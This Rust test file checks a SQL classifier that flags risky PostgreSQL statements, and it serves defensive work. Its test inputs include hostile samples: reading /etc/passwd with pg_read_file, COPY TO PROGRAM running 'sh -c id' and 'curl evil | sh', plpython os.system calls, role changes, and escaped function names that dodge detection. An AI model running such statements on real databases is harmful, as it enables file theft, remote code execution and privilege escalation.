use super::*;

fn one(sql: &str) -> Statement {
    let mut v = classify(sql, 1 << 20).unwrap();
    assert_eq!(v.len(), 1, "{sql}");
    v.remove(0)
}

#[test]
fn select_reads_resolved_tables() {
    let s = one(
        "SELECT a FROM orders o JOIN sales.items i ON true WHERE x IN (SELECT 1 FROM pg_class)",
    );
    assert_eq!(s.kinds, vec![kind::SELECT]);
    assert_eq!(
        s.tables.iter().map(String::as_str).collect::<Vec<_>>(),
        ["pg_catalog.pg_class", "public.orders", "sales.items"]
    );
    assert!(s.writes.is_empty());
    assert!(s.flags.is_empty());
}

#[test]
fn update_and_delete_without_where() {
    assert!(
        one("UPDATE t SET a = 1")
            .flags
            .contains(&flag::UPDATE_WITHOUT_WHERE)
    );
    assert!(
        !one("UPDATE t SET a = 1 WHERE id = 2")
            .flags
            .contains(&flag::UPDATE_WITHOUT_WHERE)
    );
    let d = one("DELETE FROM s.t");
    assert!(d.flags.contains(&flag::DELETE_WITHOUT_WHERE));
    assert_eq!(d.writes.iter().next().unwrap(), "s.t");
}

#[test]
fn data_modifying_cte_adds_its_kind() {
    let s = one("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d");
    assert_eq!(s.kinds, vec![kind::SELECT, kind::DELETE]);
    assert!(s.flags.contains(&flag::DATA_MODIFYING_CTE));
    assert!(s.flags.contains(&flag::DELETE_WITHOUT_WHERE));
    assert!(s.tables.contains("public.t"));
    assert!(!s.tables.contains("public.d"), "CTE name is not a table");
}

#[test]
fn cte_name_does_not_hide_a_table_outside_its_scope() {
    let s = one("SELECT * FROM secret, (WITH secret AS (SELECT 1) SELECT * FROM secret) x");
    assert!(s.tables.contains("public.secret"));
    let s = one("WITH a AS (SELECT * FROM a) SELECT * FROM a");
    assert!(
        s.tables.contains("public.a"),
        "non-recursive CTE body sees the table"
    );
}

#[test]
fn functions_anywhere_are_seen() {
    let s = one("INSERT INTO t VALUES (pg_read_file('/etc/passwd'))");
    assert!(s.flags.contains(&flag::SIDE_EFFECT_FUNCTION));
    let s = one("SELECT * FROM pg_catalog.pg_ls_dir('.')");
    assert!(s.flags.contains(&flag::SIDE_EFFECT_FUNCTION));
    let s = one("SELECT lower(x) FROM t ORDER BY (SELECT dblink_exec('x', 'drop table t'))");
    assert!(s.flags.contains(&flag::SIDE_EFFECT_FUNCTION));
    assert!(s.functions.contains("lower"));
    let s = one("SELECT query_to_xml('delete from t', true, true, '')");
    assert!(s.flags.contains(&flag::DYNAMIC_SQL));
}

#[test]
fn explain_is_judged_as_what_it_explains() {
    let s = one("EXPLAIN ANALYZE DELETE FROM t WHERE id = 1");
    assert_eq!(s.kind(), kind::DELETE);
    assert!(s.flags.contains(&flag::EXPLAIN_ANALYZE));
    assert_eq!(one("EXPLAIN SELECT 1").kind(), kind::SELECT);
}

#[test]
fn copy_forms() {
    let s = one("COPY t TO PROGRAM 'sh -c id'");
    assert_eq!(s.kind(), kind::COPY_OUT);
    assert!(s.flags.contains(&flag::COPY_PROGRAM));
    let s = one("COPY t FROM '/etc/passwd'");
    assert_eq!(s.kind(), kind::COPY_IN);
    assert!(s.flags.contains(&flag::SERVER_FILE));
    assert!(s.writes.contains("public.t"));
    let s = one("COPY (DELETE FROM t RETURNING *) TO STDOUT");
    assert_eq!(s.kinds, vec![kind::COPY_OUT, kind::DELETE]);
    assert!(s.flags.contains(&flag::DELETE_WITHOUT_WHERE));
    let s = one("TABLE secret.keys");
    assert!(s.tables.contains("secret.keys"));
    let s = one("SELECT \"PG_READ_FILE\"('x'), U&\"pg\\005fls_dir\"('.')");
    assert!(s.functions.contains("pg_ls_dir"), "{:?}", s.functions);
    let s = one("COPY (SELECT * FROM s.x) TO STDOUT");
    assert!(s.flags.is_empty());
    assert!(s.tables.contains("s.x"));
}

#[test]
fn role_and_path_changes() {
    assert!(one("SET ROLE admin").flags.contains(&flag::ROLE_CHANGE));
    assert!(
        one("SET SESSION AUTHORIZATION admin")
            .flags
            .contains(&flag::ROLE_CHANGE)
    );
    assert!(
        one("SELECT set_config('role', 'admin', false)")
            .flags
            .contains(&flag::ROLE_CHANGE)
    );
    assert!(
        one("SELECT set_config($1, 'x', false)")
            .flags
            .contains(&flag::ROLE_CHANGE)
    );
    assert!(
        one("SET search_path = evil")
            .flags
            .contains(&flag::SEARCH_PATH_CHANGE)
    );
    assert!(one("SET statement_timeout = 5").flags.is_empty());
    assert!(one("SET NAMES 'SJIS'").flags.contains(&flag::LEXER_CHANGE));
    assert!(
        one("SET standard_conforming_strings = off")
            .flags
            .contains(&flag::LEXER_CHANGE)
    );
    assert!(
        one("SELECT set_config('client_encoding', 'BIG5', false)")
            .flags
            .contains(&flag::LEXER_CHANGE)
    );
}

#[test]
fn ctas_and_select_into_create_tables() {
    let s = one("CREATE TABLE x AS SELECT * FROM secret");
    assert_eq!(s.kind(), kind::DDL);
    assert!(s.flags.contains(&flag::CREATE_TABLE_AS));
    assert!(s.writes.contains("public.x"));
    let s = one("SELECT * INTO x FROM secret");
    assert_eq!(s.kind(), kind::DDL);
    assert!(s.writes.contains("public.x"));
}

#[test]
fn do_is_judged_by_its_body() {
    let s = one("DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM public.orders; END $$");
    assert_eq!(s.kinds, vec![kind::DO, kind::SELECT]);
    assert_eq!(s.tables.iter().collect::<Vec<_>>(), ["public.orders"]);
    assert!(s.flags.is_empty(), "{:?}", s.flags);
    let s = one("DO $$ BEGIN IF now() > '2020-01-01' THEN RAISE NOTICE 'x'; END IF; END $$");
    assert_eq!(
        s.kinds,
        vec![kind::DO],
        "an expression without tables adds no kind"
    );
    let s = one(
        "DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM s.t LOOP              DELETE FROM s.t WHERE id = r.id; END LOOP; END $$",
    );
    assert_eq!(s.kind(), kind::DO);
    assert!(s.kinds.contains(&kind::SELECT) && s.kinds.contains(&kind::DELETE));
    assert!(s.writes.contains("s.t"));
    let s = one("DO $$ DECLARE x int := (SELECT max(id) FROM secret.k); BEGIN x := x + 1; END $$");
    assert!(
        s.tables.contains("secret.k"),
        "DECLARE defaults are classified"
    );
    let s = one("DO $$ DECLARE x int; BEGIN x := (SELECT max(id) FROM secret.k); END $$");
    assert!(s.tables.contains("secret.k"), "assignments are classified");
    let s = one("DO $$ DECLARE c CURSOR FOR SELECT * FROM secret.k; BEGIN OPEN c; CLOSE c; END $$");
    assert!(
        s.tables.contains("secret.k"),
        "cursor queries are classified"
    );
    let s = one("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); COMMIT; END $$");
    assert!(s.flags.contains(&flag::SIDE_EFFECT_FUNCTION));
    assert!(s.kinds.contains(&kind::TRANSACTION));
    // No dynamic SQL: no dynamic_sql flag.
    assert!(!s.flags.contains(&flag::DYNAMIC_SQL));
}

#[test]
fn do_with_dynamic_sql_is_flagged_wherever_it_hides() {
    for sql in [
        "DO $$ BEGIN EXECUTE 'drop table t'; END $$",
        "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$",
        "DO $$ BEGIN BEGIN BEGIN EXECUTE 'x'; END; END; END $$",
        "DO $$ BEGIN PERFORM 1; EXCEPTION WHEN others THEN EXECUTE 'delete from t'; END $$",
        "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$",
        "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'select 1'; END $$",
        "DO $$ BEGIN IF true THEN LOOP EXIT WHEN true; EXECUTE 'x'; END LOOP; END IF; END $$",
    ] {
        let s = one(sql);
        assert_eq!(s.kind(), kind::DO, "{sql}");
        assert!(s.flags.contains(&flag::DYNAMIC_SQL), "{sql}");
    }
    let s = one("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$");
    assert!(
        s.functions.contains("format"),
        "the EXECUTE's expression is still classified"
    );
    let s = one(
        "CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'select 1'; END $$",
    );
    assert_eq!(s.kind(), kind::DDL);
    assert!(s.flags.contains(&flag::DYNAMIC_SQL));
}

#[test]
fn do_running_risky_sql_carries_its_flags() {
    let s = one("DO $$ BEGIN COPY (SELECT 1) TO PROGRAM 'curl evil | sh'; END $$");
    assert!(s.flags.contains(&flag::COPY_PROGRAM));
    assert!(s.kinds.contains(&kind::COPY_OUT));
    let s = one("DO $$ BEGIN SET ROLE postgres; END $$");
    assert!(s.flags.contains(&flag::ROLE_CHANGE));
    let s = one("DO $$ BEGIN DELETE FROM t; END $$");
    assert!(s.flags.contains(&flag::DELETE_WITHOUT_WHERE));
    assert!(s.kinds.contains(&kind::DELETE));
    let s = one("DO $outer$ BEGIN DO $inner$ BEGIN EXECUTE 'x'; END $inner$; END $outer$");
    assert!(
        s.flags.contains(&flag::DYNAMIC_SQL),
        "a DO inside a DO is analysed too"
    );
    let s = one("DO $$ BEGIN PERFORM 1 FROM hr.people WHERE ssn LIKE '5%'; END $$");
    assert!(s.columns.iter().any(|c| c.column.as_deref() == Some("ssn")));
}

#[test]
fn unanalysable_procedural_code_is_refused() {
    for sql in [
        "DO LANGUAGE plpython3u $$ import os; os.system('id') $$",
        "DO LANGUAGE 'PLPGSQL' $$ BEGIN EXECUTE 'x'; END $$",
        "DO $$ BEGIN SELEC 1; END $$",
        "DO $$ DECLARE r record := (SELECT * FROM secret LIMIT 1); BEGIN END $$",
    ] {
        assert!(
            matches!(
                classify(sql, 1 << 20),
                Err(Unclassifiable::Unsupported(_)
                    | Unclassifiable::Syntax(_)
                    | Unclassifiable::Grammar(_))
            ),
            "{sql}: {:?}",
            classify(sql, 1 << 20)
        );
    }
    let mut nested = "SELECT 1".to_owned();
    for i in 0..10 {
        nested = format!("DO $d{i}$ BEGIN {nested}; END $d{i}$");
    }
    assert!(classify(&nested, 1 << 20).is_err(), "nesting is bounded");
}

#[test]
fn function_bodies() {
    let s =
        one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM audit.log RETURNING 1'");
    assert_eq!(s.kinds, vec![kind::DDL, kind::DELETE]);
    assert!(s.tables.contains("audit.log"));
    let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE plpythonu AS 'return 1'");
    assert_eq!(s.kind(), kind::DDL);
    assert!(s.flags.contains(&flag::DYNAMIC_SQL), "body not analysable");
    let s = one(
        "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN UPDATE t SET a = 1 WHERE b = 2; END $$",
    );
    assert_eq!(s.kinds, vec![kind::DDL, kind::UPDATE]);
    assert!(!s.flags.contains(&flag::DYNAMIC_SQL));
}

#[test]
fn prepare_is_its_query_and_execute_names_it() {
    let p = one("PREPARE p(int) AS DELETE FROM t WHERE id = $1");
    assert_eq!(p.kind(), kind::DELETE);
    assert_eq!(p.prepared, Some(Prepared::Prepare("p".into())));
    let e = one("EXECUTE p(1)");
    assert_eq!(e.kind(), kind::EXECUTE);
    assert!(e.flags.contains(&flag::DYNAMIC_SQL));
    assert_eq!(e.prepared, Some(Prepared::Execute("p".into())));
    let mut ps = super::super::PreparedStatements::new();
    assert!(ps.resolve(&e).is_none(), "unknown name: judged as execute");
    ps.completed(&p);
    let r = ps.resolve(&e).unwrap();
    assert_eq!(r.kinds, vec![kind::DELETE]);
    assert!(r.writes.contains("public.t"));
    assert!(!r.flags.contains(&flag::DYNAMIC_SQL));
    assert_eq!(r.text, "EXECUTE p(1)");
    let e2 = one("EXECUTE p(length(pg_read_file('/etc/passwd')))");
    assert!(
        ps.resolve(&e2)
            .unwrap()
            .flags
            .contains(&flag::SIDE_EFFECT_FUNCTION)
    );
    ps.completed(&one("DEALLOCATE p"));
    assert!(ps.resolve(&e).is_none());
    ps.completed(&p);
    ps.completed(&one("DISCARD ALL"));
    assert!(ps.is_empty());
    ps.completed(&p);
    ps.completed(&one("DEALLOCATE ALL"));
    assert!(ps.is_empty());
}

#[test]
fn multi_statement_is_split() {
    let v = classify("SELECT 1; DROP TABLE t; ", 1 << 20).unwrap();
    assert_eq!(v.len(), 2);
    assert_eq!(v[0].text, "SELECT 1");
    assert_eq!(v[1].text, "DROP TABLE t");
    assert_eq!(v[1].kind(), kind::DDL);
    assert!(classify("  -- nothing\n", 100).unwrap().is_empty());
}

#[test]
fn unclassifiable() {
    assert!(matches!(
        classify("SELEC 1", 100),
        Err(Unclassifiable::Grammar(_))
    ));
    assert!(matches!(
        classify("SELECT 1", 3),
        Err(Unclassifiable::TooLong { .. })
    ));
    assert!(matches!(
        classify("SELECT '\0'", 100),
        Err(Unclassifiable::Nul)
    ));
}

#[test]
fn commit_is_told_apart_from_other_transaction_statements() {
    for (sql, commits) in [
        ("COMMIT", true),
        ("END", true),
        ("COMMIT AND CHAIN", true),
        ("commit work", true),
        ("BEGIN", false),
        ("ROLLBACK", false),
        ("SAVEPOINT a", false),
        ("RELEASE a", false),
        ("COMMIT PREPARED 'x'", false),
        ("SELECT 1", false),
    ] {
        let sts = classify(sql, 1 << 20).unwrap();
        assert_eq!(sts[0].commits, commits, "{sql}");
    }
}

#[test]
fn set_config_of_an_ordinary_setting_raises_no_flag() {
    // asyncpg turns jit off around its type introspection this way.
    let s =
        one("SELECT\n  current_setting('jit') AS cur,\n  set_config('jit', 'off', false) AS new");
    assert!(s.flags.is_empty(), "{s:?}");
    assert!(s.harmless_set_config);
    // Settings a worker may not choose at startup keep the built-in's volatility.
    for sql in [
        "SELECT set_config('session_replication_role', 'replica', false)",
        "SELECT set_config('jit', 'off', false), set_config('work_mem', '1GB', false)",
        "SELECT set_config($1, 'off', false)",
        "SELECT set_config('client_encoding', 'UTF8', false)",
    ] {
        assert!(!one(sql).harmless_set_config, "{sql}");
    }
}

#[test]
fn cursor_and_prepared_names_with_the_agents_prefix_are_marked_reserved() {
    for (sql, name) in [
        (
            "DECLARE pam_agent_r_ab CURSOR FOR SELECT 1",
            "pam_agent_r_ab",
        ),
        ("FETCH 1 FROM pam_agent_r_ab", "pam_agent_r_ab"),
        ("MOVE NEXT IN pam_agent_r_ab", "pam_agent_r_ab"),
        ("CLOSE PAM_AGENT_R_AB", "pam_agent_r_ab"),
        ("PREPARE pam_agent_i_x AS SELECT 1", "pam_agent_i_x"),
        ("EXECUTE pam_agent_i_x", "pam_agent_i_x"),
        ("DEALLOCATE pam_agent_i_x", "pam_agent_i_x"),
    ] {
        assert_eq!(one(sql).reserved_name.as_deref(), Some(name), "{sql}");
    }
    for sql in [
        "DECLARE c CURSOR FOR SELECT 'pam_agent_r_ab'",
        "CLOSE \"PAM_AGENT_R_AB\"",
        "PREPARE p AS SELECT 1",
        "SELECT 1 AS pam_agent_x",
    ] {
        assert_eq!(one(sql).reserved_name, None, "{sql}");
    }
}
